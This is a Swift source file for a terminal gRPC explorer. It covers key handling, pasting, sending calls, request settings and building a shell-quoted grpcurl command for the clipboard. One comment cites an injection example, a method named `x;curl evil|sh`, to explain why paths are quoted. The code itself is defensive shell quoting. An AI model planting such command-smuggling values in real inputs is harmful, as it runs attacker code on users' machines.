import Foundation
import Wire

extension ExplorerState {
  mutating func handle(_ key: Key) -> [Effect] {
    // While the screen says it is too small, only quitting and suspending act: nothing typed
    // there can send a call the user cannot see.
    let tooSmall = visibleFocuses.isEmpty
    let contexts: [Keymap.Context] = tooSmall ? [.always] : self.contexts
    if let action = Keymap.action(for: key, in: contexts) {
      return perform(action)
    }
    guard !tooSmall, case .character(let character) = key else { return [] }
    switch (overlay, focus) {
    case (.target(var editor), _):
      editor.insert(character)
      overlay = .target(editor)
      targetError = nil
    case (.settings(var form), _):
      form.insert(character)
      overlay = .settings(form)
    case (nil, .input) where composesJSON:
      composer.edit { $0.insert(character) }
    case (nil, .input):
      prompt.type { $0.insert(character) }
    case (nil, .methods) where tree.isEditingFilter:
      tree.editFilter { $0.insert(character) }
    case (nil, .methods) where !composesJSON:
      // A letter no Methods key uses starts the name: the first screen asks for one.
      focus = .input
      prompt.type { $0.insert(character) }
    default:
      break
    }
    return []
  }

  mutating func handlePaste(_ text: String) {
    guard !visibleFocuses.isEmpty else { return }
    // One line: a pasted newline or tab is a space, never Enter.
    let line = String(text.map { $0.isNewline || $0 == "\t" ? " " : $0 })
    switch overlay {
    case .target(var editor):
      for character in line { editor.insert(character) }
      overlay = .target(editor)
      targetError = nil
    case .settings(var form):
      form.paste(text)
      overlay = .settings(form)
    case .help, .grpcurl, .headers:
      break
    case nil where focus == .methods && tree.isEditingFilter:
      tree.editFilter { $0.insert(contentsOf: line) }
    case nil where composesJSON:
      // JSON keeps its newlines: the composer is multi-line.
      focus = .input
      composer.edit { $0.insert(contentsOf: text) }
    case nil:
      focus = .input
      prompt.type { $0.insert(contentsOf: line) }
    }
  }

  mutating func perform(_ action: Keymap.Action) -> [Effect] {
    switch action {
    case .quit:
      return quit(reason: "the explorer quit")
    case .suspend:
      return [.suspend]
    case .help:
      overlay = .help
      overlayScroll = 0
    case .closeOverlay:
      overlay = nil
      overlayScroll = 0
      targetError = nil
    case .connect:
      return connectToTypedTarget()
    case .toggleServer:
      let on: Bool
      switch title.server {
      case .off, .failed, .stopping: on = true
      case .on, .starting: on = false
      }
      title.update(server: on ? .starting : .stopping)
      return [.setServer(on: on)]
    case .changeTarget:
      overlay = .target(LineEditor(title.target))
      targetError = nil
    case .nextFocus, .previousFocus:
      let all = visibleFocuses
      guard !all.isEmpty else { break }
      let step = action == .nextFocus ? 1 : all.count - 1
      let current = all.firstIndex(of: focus) ?? all.firstIndex(of: .input)!
      focus = all[(current + step) % all.count]
      // Leaving the tree ends typing into its filter (the filter stays).
      if focus != .methods { tree.acceptFilter() }
    case .up, .down:
      move(by: action == .up ? -1 : 1)
    case .pageUp, .pageDown:
      page(by: action == .pageUp ? -1 : 1)
    case .choose:
      if tree.headerCursor != nil {
        tree.toggleFold()
      } else {
        focus = .input
      }
    case .startFilter:
      tree.startFilter()
    case .acceptFilter:
      tree.acceptFilter()
    case .clearFilter:
      tree.clearFilter()
    case .newline:
      if case .settings(var form) = overlay {
        // Enter in the deadline goes on to the headers, where it starts a new line.
        form.newline()
        overlay = .settings(form)
      } else {
        composer.edit { $0.newline() }
      }
    case .editSettings:
      overlay = .settings(SettingsForm(title.requestSettings))
      overlayScroll = 0
    case .switchField:
      if case .settings(var form) = overlay {
        form.switchField()
        overlay = .settings(form)
      }
    case .saveSettings:
      return saveSettings()
    case .toggleWhole:
      transcript.toggleWhole()
    case .showHeaders:
      if let call = transcript.shownCall {
        overlay = .headers(callID: call.id)
        overlayScroll = 0
      }
    case .undo:
      composer.edit { $0.undo() }
    case .resetTemplate:
      composer.resetToTemplate(catalog: catalog)
    case .externalEditor:
      return [.openEditor(composer.text)]
    case .editRequest:
      editRequest()
    case .send:
      return send()
    case .halfClose:
      guard let id = transcript.closeStream() else {
        notice = "no open stream to end (Enter opens one)"
        return []
      }
      return [.finishSending(id: id)]
    case .cancelCall:
      guard
        let id = transcript.openStream
          ?? transcript.calls.last(where: { $0.phase == .running })?.id
      else {
        return []
      }
      return [.cancel(id: id)]
    case .recallPrevious, .recallNext:
      prompt.recall(older: action == .recallPrevious)
    case .editLeft, .editRight, .editHome, .editEnd, .editBackspace, .editDelete,
      .editKillToStart:
      if case .target(var editor) = overlay {
        editor.edit(action)
        overlay = .target(editor)
        targetError = nil
      } else if case .settings(var form) = overlay {
        form.edit(action)
        overlay = .settings(form)
      } else if focus == .methods, tree.isEditingFilter {
        tree.editFilter { $0.edit(action) }
      } else if focus == .input, composesJSON {
        composer.edit { $0.edit(action) }
      } else {
        prompt.edit(action)
      }
    case .expand where focus == .methods:
      tree.unfold()
    case .collapse where focus == .methods:
      tree.fold()
    case .expand:
      if transcript.shownCall != nil {
        inspector.enter()
      }
    case .collapse:
      inspector.leave()
    case .toggleRaw:
      inspector.toggleView()
    case .rerun:
      return rerun()
    case .showGrpcurl:
      guard let call = transcript.shownCall else { break }
      let command = grpcurlCommand(for: call)
      overlay = .grpcurl(command)
      overlayScroll = 0
      return copy(command)
    }
    return []
  }

  /// Ends the explorer: calls still running (an open bidi stream) are cut off and written to
  /// history as such, so quitting loses nothing.
  mutating func quit(reason: String) -> [Effect] {
    let ids = transcript.cutOffRunningCalls(reason: reason, now: now)
    requestQuit()
    return ids.flatMap { [Effect.cancel(id: $0), .recordHistory(id: $0)] } + [.quit]
  }

  private mutating func connectToTypedTarget() -> [Effect] {
    guard case .target(let editor) = overlay else { return [] }
    let text = editor.text.trimmingCharacters(in: .whitespaces)
    guard Target(parsing: text) != nil else {
      // The dialog stays open with what was typed, the reason under it.
      targetError = "not a target: \(InertText.make(text)) (HOST:PORT, [::1]:PORT for IPv6)"
      return []
    }
    overlay = nil
    targetError = nil
    transcript.willCutOffRunningCalls("the target changed to \(text)")
    // The old server's headers (a bearer token) are not the new one's: none until the app
    // brings what was remembered for it.
    title.switchTarget(to: text)
    notice = "target \(text)"
    return [.setTarget(text)]
  }

  private mutating func move(by step: Int) {
    if case .settings(var form) = overlay {
      form.move(by: step)
      overlay = .settings(form)
      return
    }
    if overlay != nil {
      scrollOverlay(by: step)
      return
    }
    switch focus {
    case .methods:
      tree.move(by: step)
    case .input:
      if composesJSON { composer.edit { $0.moveLines(by: step) } }
    case .transcript:
      // The same call again (at either end) starts from its first frame, as a new one does.
      if transcript.moveSelection(by: step) { inspector.reset() }
    case .frames:
      if inspector.inDetail {
        moveInDetail(by: step)
      } else {
        inspector.moveFrame(by: step, count: shownFrames.count)
      }
    }
  }

  private mutating func page(by direction: Int) {
    if overlay != nil {
      scrollOverlay(by: direction * max(1, overlayPageRows))
      return
    }
    let rows = max(1, height / 3)
    switch focus {
    case .methods:
      tree.move(by: direction * max(1, (layout?.methods?.height ?? 3) - 3))
    case .input where composesJSON:
      let rows = direction * max(1, composerRows - 1)
      composer.edit { $0.moveLines(by: rows) }
    case .frames where inspector.inDetail:
      scrollDetail(by: direction * max(1, detailPageRows))
    case .frames:
      inspector.moveFrame(by: direction * rows, count: shownFrames.count)
    default:
      transcript.scroll(up: -direction * rows)
    }
  }

  private mutating func send() -> [Effect] {
    guard let method = tree.current else { return [] }
    if composesJSON { return sendComposed(method) }
    let line = prompt.editor.text
    // Without its input type in the catalog nothing can be encoded: say so, keep the line.
    guard let type = inputType(of: method.path), catalog.message(type) != nil else {
      notice = InertText.make("\(method.name): its input type is not in the schema; nothing sent")
      return []
    }
    let draft = catalog.draft(from: line, as: type)
    // A request that does not fit its type is not sent: the line stays for fixing, the reason
    // (JSON path, line:column) on the status line.
    do {
      _ = try catalog.encode(draft)
    } catch {
      let subject = "not a \(draft.typeName)"
      notice = InertText.make(
        (error as? CodecError)?.explaining(subject) ?? "\(subject): \(error)")
      return []
    }
    prompt.sent()
    return start(draft, of: method)
  }

  /// The composer's JSON, sent if it fits its type; it stays in the composer either way (to
  /// send again, changed or not, as grpcui and Kreya keep it).
  private mutating func sendComposed(_ method: Method) -> [Effect] {
    // The text is the selected method's, whatever happened to the tree since the last key.
    syncComposer()
    guard composer.path == method.path else { return [] }
    composer.validate(with: catalog)
    if case .invalid(let why, let line) = composer.check {
      notice = "not sent: \(why)"
      if let line { composer.edit { $0.moveTo(line: line - 1, column: 0) } }
      return []
    }
    return start(composer.draft, of: method)
  }

  /// Sends `draft`: on the method's open stream, else as a new call.
  private mutating func start(_ draft: RequestDraft, of method: Method) -> [Effect] {
    notice = nil
    if method.kind.clientStreams, let id = transcript.openStream,
      let index = transcript.index(ofCall: id), transcript.calls[index].phase == .running,
      transcript.calls[index].path == method.path
    {
      transcript.appendRequest(draft, shown: shownText(of: draft), toCallAt: index)
      return [.send(id: id, request: draft)]
    }
    // One stream is open at a time: a stream of another method (bidi, then client streaming,
    // say) is half-closed before the new one opens, or no key could end it any more.
    var effects: [Effect] = []
    if method.kind.clientStreams, let open = transcript.closeStream() {
      effects.append(.finishSending(id: open))
    }
    let id = startCall(method, requests: [draft])
    if method.kind.clientStreams { transcript.openStream(id) }
    return effects + [
      .startCall(id: id, path: method.path, request: draft, halfClose: !method.kind.clientStreams)
    ]
  }

  /// Appends a running call to the transcript and follows it.
  private mutating func startCall(_ method: Method, requests: [RequestDraft]) -> Int {
    let id = transcript.takeID()
    var call = CallRecord(
      id: id, method: method.name, path: method.path, kind: method.kind,
      startNanos: now)
    let settings = title.requestSettings
    call.sentHeaders = settings.headers.map { InertText.make("\($0.name): \($0.value)") }
    call.target = title.target
    call.sentDeadline = settings.deadline
    for draft in requests { call.append(draft, shown: shownText(of: draft)) }
    transcript.append(call)
    return id
  }

  /// A request as the transcript shows it: the string for a one-string-field type, else its JSON.
  func shownText(of draft: RequestDraft) -> String {
    InertText.make(catalog.shownText(of: draft))
  }

  /// The input type the catalog gives the method at `path`.
  func inputType(of path: String) -> String? {
    catalog.method(path: path)?.inputType
  }

  /// The requests of a call as drafts: as sent, or, for a call from an older history file that
  /// kept only their text, built from that text as the prompt would.
  func drafts(of call: CallRecord) -> [RequestDraft] {
    if !call.drafts.isEmpty { return call.drafts }
    let type = inputType(of: call.path) ?? ""
    return call.requests.map { catalog.draft(from: $0, as: type) }
  }

  /// Ctrl-S in the metadata dialog: taken if every line is a valid header and the deadline a
  /// number of seconds; else the dialog stays open with the first thing wrong.
  private mutating func saveSettings() -> [Effect] {
    guard case .settings(var form) = overlay else { return [] }
    switch RequestSettings.parse(headers: form.headers.text, deadline: form.deadline.text) {
    case .failure(let error):
      form.refuse(InertText.make(error.description))
      overlay = .settings(form)
      return []
    case .success(let settings):
      title.update(settings: settings)
      overlay = nil
      notice = settings.isEmpty ? "no metadata, no deadline" : "calls now send \(settings.summary)"
      return [.saveRequestSettings(target: title.target, settings)]
    }
  }

  /// What `h` shows of a call: the headers it sent, and those that came back.
  func headersText(of call: CallRecord) -> String {
    var lines = ["Sent with the request:"]
    lines +=
      call.sentHeaders.isEmpty ? ["  (none of the user's)"] : call.sentHeaders.map { "  " + $0 }
    if let deadline = call.sentDeadline { lines.append("  deadline \(deadline) s (grpc-timeout)") }
    lines += ["", "Response headers:"]
    lines += call.responseHeaders.isEmpty ? ["  (none)"] : call.responseHeaders.map { "  " + $0 }
    lines += ["", "Trailers:"]
    lines += call.trailers.isEmpty ? ["  (none)"] : call.trailers.map { "  " + $0 }
    return lines.joined(separator: "\n")
  }

  /// `e` in the transcript: the shown call's method selected, its last request in the composer
  /// (or the prompt) to change and send again.
  private mutating func editRequest() {
    guard let call = transcript.shownCall, !call.isDiscovery else { return }
    guard tree.select(path: call.path) else {
      notice = InertText.make("\(call.method) is not a method of this schema")
      return
    }
    focus = .input
    guard let last = drafts(of: call).last else { return }
    if composesJSON {
      syncComposer()
      composer.fill(with: last.json)
    } else {
      prompt.replace(with: catalog.shownText(of: last))
    }
  }

  /// Rows of text the composer shows at once.
  var composerRows: Int { max(1, (layout?.composer?.height ?? 3) - 2) }

  private mutating func rerun() -> [Effect] {
    guard let old = transcript.shownCall else { return [] }
    let method =
      tree.methods.first { $0.path == old.path }
      ?? Method(name: old.method, path: old.path, kind: old.kind)
    let requests = drafts(of: old)
    let id = startCall(method, requests: requests)
    guard method.kind.clientStreams else {
      let first = requests.first ?? catalog.draft(from: "", as: inputType(of: method.path) ?? "")
      return [.startCall(id: id, path: method.path, request: first, halfClose: true)]
    }
    var effects: [Effect] = [
      .startCall(id: id, path: method.path, request: requests.first, halfClose: false)
    ]
    effects += requests.dropFirst().map { .send(id: id, request: $0) }
    effects.append(.finishSending(id: id))
    return effects
  }

  /// The longest text sent with OSC 52: terminals cap it (xterm's default is about 100 KB of
  /// base64), and a command that long is better read than pasted.
  static let clipboardLimit = 64 << 10

  /// `g` also copies the command, unless it holds a control character (pasted into a shell,
  /// one could run something) or is too long; the notice says which.
  private mutating func copy(_ command: String) -> [Effect] {
    if command.unicodeScalars.contains(where: { $0.properties.generalCategory == .control }) {
      notice = "not copied: the command holds control characters"
      return []
    }
    guard command.utf8.count <= Self.clipboardLimit else {
      notice = "not copied: over \(Self.clipboardLimit >> 10) KiB"
      return []
    }
    notice = "copied with OSC 52 (if the terminal allows it)"
    return [.copyToClipboard(command)]
  }

  /// The same call as a grpcurl command line, quoted for a POSIX shell.
  func grpcurlCommand(for call: CallRecord) -> String {
    let data = drafts(of: call).map(\.compactJSON).joined(separator: " ")
    let path = call.path.hasPrefix("/") ? String(call.path.dropFirst()) : call.path
    var options = call.sentHeaders.map { "-H \(Self.shellQuoted($0)) " }.joined()
    if let deadline = call.sentDeadline { options += "-max-time \(Self.shellQuoted(deadline)) " }
    // The path comes from the server's descriptors: quoted like everything else, so that a
    // method named `x;curl evil|sh` is an argument, not a command.
    let destination = Self.shellWord(call.target ?? title.target)
    let method = Self.shellWord(path)
    return "grpcurl -plaintext \(options)-d \(Self.shellQuoted(data)) \(destination) \(method)"
  }

  /// `text` as one shell word: as it is when it holds nothing a shell reads (a target, a
  /// method path), else quoted.
  static func shellWord(_ text: String) -> String {
    let plain = !text.isEmpty && text.allSatisfy { Self.wordCharacters.contains($0) }
    return plain ? text : shellQuoted(text)
  }

  /// Characters a POSIX shell takes as plain word characters.
  static let wordCharacters = Set(
    "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_./:@%+=,-[]")

  static func shellQuoted(_ text: String) -> String {
    "'" + text.replacingOccurrences(of: "'", with: "'\\''") + "'"
  }
}

/// A field the keymap's editing actions work on: the one-line editor and the composer's.
protocol EditableText {
  mutating func left()
  mutating func right()
  mutating func home()
  mutating func end()
  mutating func backspace()
  mutating func delete()
  /// Ctrl-U: what is before the cursor on its line goes.
  mutating func killToStart()
}

extension EditableText {
  /// The editing actions of the keymap, the same wherever text is edited.
  mutating func edit(_ action: Keymap.Action) {
    switch action {
    case .editLeft: left()
    case .editRight: right()
    case .editHome: home()
    case .editEnd: end()
    case .editBackspace: backspace()
    case .editDelete: delete()
    case .editKillToStart: killToStart()
    default: break
    }
  }
}

extension LineEditor: EditableText {}
extension TextEditor: EditableText {}
